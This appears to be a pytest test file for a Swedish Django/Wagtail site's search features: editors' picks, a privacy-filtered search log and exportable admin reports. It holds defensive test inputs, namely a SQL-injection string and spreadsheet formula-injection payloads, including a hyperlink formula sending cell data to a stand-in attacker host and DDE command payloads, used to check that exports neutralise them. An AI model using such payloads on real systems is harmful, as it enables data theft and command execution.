"""Editors' tools for search: picks above the hits, a log of what is searched, reports of it in the admin."""

import csv
import io
import types
from datetime import date, timedelta

import openpyxl
import pytest

from django.urls import reverse
from django.utils import timezone

from wagtail.contrib.search_promotions.models import Query, SearchPromotion

from accounts import roles
from search import querylog
from search.models import SearchQueryDay
from search.promotions import picks_for
from tests.conftest import queries_for
from tests.factories import UserFactory


def promote(text, **fields):
    query = Query.objects.get_or_create(query_string=text)[0]
    return SearchPromotion.objects.create(query=query, sort_order=SearchPromotion.objects.count(), **fields)


def searched(text, *, days_ago=0, searches=1, zero_results=0):
    return SearchQueryDay.objects.create(
        text=text,
        day=timezone.localdate() - timedelta(days=days_ago),
        searches=searches,
        zero_results=zero_results,
    )


def listed(response):
    assert response.status_code == 200
    return [(row["text"], row["total_searches"], row["total_zero_results"]) for row in response.context["object_list"]]


# Editors' picks


def test_an_editors_pick_for_a_search_comes_first_above_the_hits(member_client, make_method):
    make_method("Våld i skolan")
    routine = make_method("Rutin vid oro", summary="Vad du gör först.", search_description="Rutinen steg för steg.")
    promote("våld", page=routine, description="Börja här.")
    promote("våld", external_link_url="https://www.nck.uu.se/", external_link_text="Nationellt centrum")
    response = member_client.get(reverse("search:search"), {"q": "Våld"})
    html = response.content.decode()
    assert [pick.title for pick in response.context["picks"]] == ["Rutin vid oro", "Nationellt centrum"]
    assert "Börja här." in html
    assert html.index("Redaktionen rekommenderar") < html.index("Rutin vid oro") < html.index("Våld i skolan")


def test_a_pick_falls_back_on_the_pages_search_description(make_method):
    routine = make_method("Rutin vid oro", search_description="Rutinen steg för steg.")
    promote("oro", page=routine)
    (pick,) = picks_for("oro")
    assert pick.description == "Rutinen steg för steg."
    assert pick.url == routine.url


def test_a_pick_for_a_page_that_is_not_published_is_not_shown(member_client, make_method):
    make_method("Våld i skolan")
    draft = make_method("Utkast om våld", publish=False, live=False)
    promote("våld", page=draft)
    response = member_client.get(reverse("search:search"), {"q": "våld"})
    assert response.context["picks"] == []
    assert "Redaktionen rekommenderar" not in response.content.decode()


def test_picks_are_shown_on_the_first_page_only(member_client, make_method):
    for number in range(11):
        make_method(f"Våld {number}")
    promote("våld", external_link_url="https://www.nck.uu.se/", external_link_text="Nationellt centrum")
    assert member_client.get(reverse("search:search"), {"q": "våld", "page": "2"}).context["picks"] == []


@pytest.mark.parametrize("text", ["", "   ", "a" * 10_000, "&|!:*()'\"\\", "'; DROP TABLE users; --"])
def test_looking_up_picks_reads_only_and_never_fails(db, text):
    assert picks_for(text) == []
    assert not Query.objects.exists()


def test_picks_cost_the_same_queries_however_many_there_are(db, make_method, django_assert_max_num_queries):
    pages = [make_method(f"Rutin {number}") for number in range(5)]
    promote("rutin", page=pages[0])
    picks_for("rutin")  # warms the cache of site root paths
    with django_assert_max_num_queries(1):
        assert len(picks_for("rutin")) == 1
    for page in pages[1:]:
        promote("rutin", page=page)
    with django_assert_max_num_queries(1):
        assert len(picks_for("Rutin")) == 5


def test_picks_are_kept_and_a_new_pick_a_removed_one_and_an_unpublished_page_show_at_once(
    db, make_method, django_assert_num_queries
):
    routine, guide = make_method("Rutin vid oro"), make_method("Vägledning vid oro")
    first = promote("oro", page=routine)
    assert [pick.title for pick in picks_for("oro")] == ["Rutin vid oro"]
    with django_assert_num_queries(0):
        assert [pick.title for pick in picks_for("Oro")] == ["Rutin vid oro"]
    promote("oro", page=guide)
    assert [pick.title for pick in picks_for("oro")] == ["Rutin vid oro", "Vägledning vid oro"]
    first.delete()
    assert [pick.title for pick in picks_for("oro")] == ["Vägledning vid oro"]
    guide.unpublish()
    assert picks_for("oro") == []


# The log of searches


def test_record_counts_searches_and_searches_without_results_per_normalised_query(db):
    querylog.record("Våld", 3)
    querylog.record("  våld ", 0)
    querylog.record("VÅLD", 2)
    querylog.record("hedersvåld", 0)
    rows = SearchQueryDay.objects.order_by("text").values_list("text", "day", "searches", "zero_results")
    today = timezone.localdate()
    assert list(rows) == [("hedersvåld", today, 1, 1), ("våld", today, 3, 1)]


def test_record_starts_a_new_row_each_day(db, monkeypatch):
    querylog.record("våld", 1)
    monkeypatch.setattr(querylog, "timezone", types.SimpleNamespace(localdate=lambda: date(2030, 1, 2)))
    querylog.record("våld", 0)
    assert sorted(SearchQueryDay.objects.values_list("searches", "zero_results")) == [(1, 0), (1, 1)]


def test_record_skips_empty_searches_and_shortens_long_ones(db):
    querylog.record("", 0)
    querylog.record("   ", 0)
    querylog.record("a" * 10_000, 0)
    assert list(SearchQueryDay.objects.values_list("text", flat=True)) == ["a" * 200]


def test_record_never_stores_personal_data_the_guard_finds(db):
    querylog.record("19850709-9805 orosanmälan", 0)  # a valid test identity number
    querylog.record("ring mig 070-123 45 67", 0)
    querylog.record("kalle.karlsson@gmail.com", 0)
    querylog.record("orosanmälan", 0)
    assert list(SearchQueryDay.objects.values_list("text", flat=True)) == ["orosanmälan"]


def test_record_stores_no_control_or_format_characters(db):
    querylog.record("våld\x00i\x07nära\x1b[31m\u202erelationer\x7f\x85", 0)
    assert list(SearchQueryDay.objects.values_list("text", flat=True)) == ["våld i nära [31m relationer"]


def test_an_identity_number_cut_by_the_length_limit_keeps_the_search_out_of_the_log(member_client, sections):
    words = "orosanmälan " * 16  # 192 characters: the number crosses the 200th
    member_client.get(reverse("search:search"), {"q": f"{words}19850709-9805"})
    member_client.get(reverse("search:search"), {"q": words})
    assert list(SearchQueryDay.objects.values_list("text", flat=True)) == [words.strip()]


def test_record_costs_one_query(db, django_assert_num_queries):
    with django_assert_num_queries(1):
        querylog.record("våld", 1)
    with django_assert_num_queries(1):
        querylog.record("våld", 1)


def test_the_search_page_records_each_search_once(member_client, make_method):
    for number in range(11):
        make_method(f"Våld {number}")
    search = reverse("search:search")
    member_client.get(search, {"q": "Våld"})
    member_client.get(search, {"q": "våld", "page": "2"})
    member_client.get(search, {"q": "våld", "typ": "metod"})
    member_client.get(search, {"q": "finnsinte"})
    member_client.get(search, {"q": "&&& ***"})
    member_client.get(reverse("search:api"), {"q": "våld"})
    rows = SearchQueryDay.objects.order_by("text").values_list("text", "searches", "zero_results")
    assert list(rows) == [("finnsinte", 1, 1), ("våld", 1, 0)]


# The reports


@pytest.fixture
def editor_client(client, editor):
    client.force_login(editor)
    return client


def test_the_frequent_searches_report_lists_the_periods_searches_most_frequent_first(editor_client, db):
    searched("våld", searches=5)
    searched("våld", days_ago=3, searches=2, zero_results=1)
    searched("hedersvåld", searches=9)
    searched("orosanmälan", days_ago=60, searches=20)
    url = reverse("search_reports:frequent")
    assert listed(editor_client.get(url)) == [("hedersvåld", 9, 0), ("våld", 7, 1)]
    assert listed(editor_client.get(url, {"period": "90"})) == [
        ("orosanmälan", 20, 0),
        ("hedersvåld", 9, 0),
        ("våld", 7, 1),
    ]
    html = editor_client.get(url).content.decode()
    assert "Vanligaste sökningar" in html and "14 %" in html


def test_the_report_of_searches_without_results_lists_content_gaps_most_frequent_first(editor_client, db):
    searched("stalkning", searches=3, zero_results=3)
    searched("våld", searches=50)
    searched("fgm-stöd", searches=6, zero_results=4)
    searched("fgm-stöd", days_ago=400, searches=9, zero_results=9)
    promote("stalkning", external_link_url="https://www.nck.uu.se/", external_link_text="Nationellt centrum")
    response = editor_client.get(reverse("search_reports:without_results"))
    assert listed(response) == [("fgm-stöd", 6, 4), ("stalkning", 3, 3)]
    assert [row["has_picks"] for row in response.context["object_list"]] == [False, True]


def test_a_pick_is_started_from_the_report_of_searches_without_results_with_the_words_filled_in(editor_client, db):
    searched("fgm-stöd", searches=6, zero_results=4)
    searched("stalkning", searches=3, zero_results=3)
    promote("stalkning", external_link_url="https://www.nck.uu.se/", external_link_text="Nationellt centrum")
    add = reverse("wagtailsearchpromotions:add") + "?q=fgm-st%C3%B6d"

    report = editor_client.get(reverse("search_reports:without_results")).content.decode()

    assert f'href="{add}"' in report
    assert report.count(reverse("wagtailsearchpromotions:add") + "?q=") == 1  # "stalkning" has its pick
    assert editor_client.get(add).context["form"].initial["query_string"] == "fgm-stöd"


def test_the_reports_can_be_downloaded(editor_client, db):
    searched("stalkning", searches=3, zero_results=3)
    response = editor_client.get(reverse("search_reports:without_results"), {"export": "csv"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    assert "stalkning,3,3," in content


# Stored searches, as rows written before the log kept control characters out, and as they are exported.
HOSTILE_SEARCHES = {
    '=hyperlink("https://angripare.example/?d="&a1,"klicka")': '\'=hyperlink("https://angripare.example/?d="&a1,"klicka")',
    "+cmd|' /c calc'!a0": "'+cmd|' /c calc'!a0",
    "-2+3+cmd|' /c calc'!a0": "'-2+3+cmd|' /c calc'!a0",
    "@sum(1+1)*cmd|' /c calc'!a0": "'@sum(1+1)*cmd|' /c calc'!a0",
    "\t=1+2": "' =1+2",
    "\r=1+3": "' =1+3",
    " =1+4": "' =1+4",
    "＝1+5": "'＝1+5",
}
# NUL too is kept out of the log (PostgreSQL would refuse it), so no stored row holds one.
CONTROL_SEARCHES = ["våld\x01start", "våld\x07bell", "våld\x1b[31mescape", "våld\x0bvtab\x0cform"]


def exported(client, url_name, export_format):
    response = client.get(reverse(url_name), {"export": export_format})
    assert response.status_code == 200
    if export_format == "csv":
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
        return [row[0] for row in rows[1:]]
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    return [cell.value for cell in cells]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("url_name", ["search_reports:frequent", "search_reports:without_results"])
def test_exported_searches_are_never_read_as_formulas(editor_client, url_name, export_format):
    for number, text in enumerate(HOSTILE_SEARCHES):
        searched(text, searches=number + 1, zero_results=1)
    searched("våld", searches=100, zero_results=100)
    texts = exported(editor_client, url_name, export_format)
    assert texts[0] == "våld"
    assert sorted(texts[1:]) == sorted(HOSTILE_SEARCHES.values())


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_searches_stored_with_control_characters_can_be_exported(editor_client, export_format):
    for text in CONTROL_SEARCHES:
        searched(text, zero_results=1)
    texts = exported(editor_client, "search_reports:without_results", export_format)
    assert sorted(texts) == ["våld [31mescape", "våld bell", "våld start", "våld vtab form"]


@pytest.mark.parametrize("role", [roles.BOARD, roles.ADMINISTRATOR])
def test_the_board_and_administrators_may_read_the_reports(client, db, role):
    client.force_login(UserFactory(roles=[role]))
    assert client.get(reverse("search_reports:frequent")).status_code == 200


@pytest.mark.parametrize("name", ["search_reports:frequent", "search_reports:without_results"])
def test_a_plain_member_may_not_read_the_reports(member_client, name):
    assert member_client.get(reverse(name)).status_code in (302, 403)


def test_the_reports_cost_the_same_queries_for_few_and_many_searches(editor_client, db):
    def make(start, count):
        for number in range(start, start + count):
            searched(f"sökning {number}", searches=number + 1, zero_results=number % 2)

    urls = [reverse("search_reports:frequent"), reverse("search_reports:without_results")]
    make(0, 3)
    for url in urls:
        queries_for(editor_client, url)  # warms the per-process caches
    few = [queries_for(editor_client, url) for url in urls]
    make(3, 27)
    assert [queries_for(editor_client, url) for url in urls] == few


def test_editors_may_manage_picks(editor_client, db):
    assert editor_client.get(reverse("wagtailsearchpromotions:index")).status_code == 200
    assert editor_client.get(reverse("wagtailsearchpromotions:add")).status_code == 200
